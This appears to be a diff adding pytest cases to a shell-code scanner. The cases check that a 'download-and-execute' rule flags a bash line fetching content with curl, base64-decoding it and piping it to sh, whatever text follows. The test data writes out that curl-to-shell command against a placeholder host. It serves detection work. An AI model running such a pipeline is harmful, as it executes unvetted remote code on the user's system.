@@ -166,3 +166,26 @@ def test_what_would_crash_a_grammar_is_not_given_to_it(name):
 def test_code_in_a_text_that_would_crash_the_grammar_is_not_given_to_it_either():
     report = inspect("a='{1..'\neval \"${a}\U0010ffff}\"\n".encode(), "a.sh", None, SHIPPED).report
     assert report.language == "bash"
+
+
+PIPED = b"curl -s https://example.com/i | base64 -d | sh"
+
+
+@pytest.mark.parametrize(
+    "behind",
+    [
+        b"\ndate > log\n",
+        b"   # so\n# it is\n\n  date 2>> log\n",
+        b"\ndate > a | b | c\nd < e\n",
+        b" \\\n  -x\ncat <<END\nx\nEND\n",
+        b"\nexport A=1 > log\n",
+        b"\ndate > a\ncurl x | base64 -d | s\\h\ndate > b\n" * 50,
+    ],
+)
+def test_a_line_of_bash_ends_behind_two_pipes_whatever_the_next_one_redirects(behind):
+    text = PIPED + behind
+    report = inspect(text, "a.sh", None, SHIPPED).report
+    assert ("download-and-execute", text.index(b"| sh") + 2) in {(one.rule, one.span.start) for one in report.findings}
+    assert report.incomplete == ""
+    before = inspect(text[:-1], "a.sh", None, SHIPPED)
+    assert reinspect(before, [Edit(Span(len(text) - 1, len(text) - 1), b"\n")], text).report == report
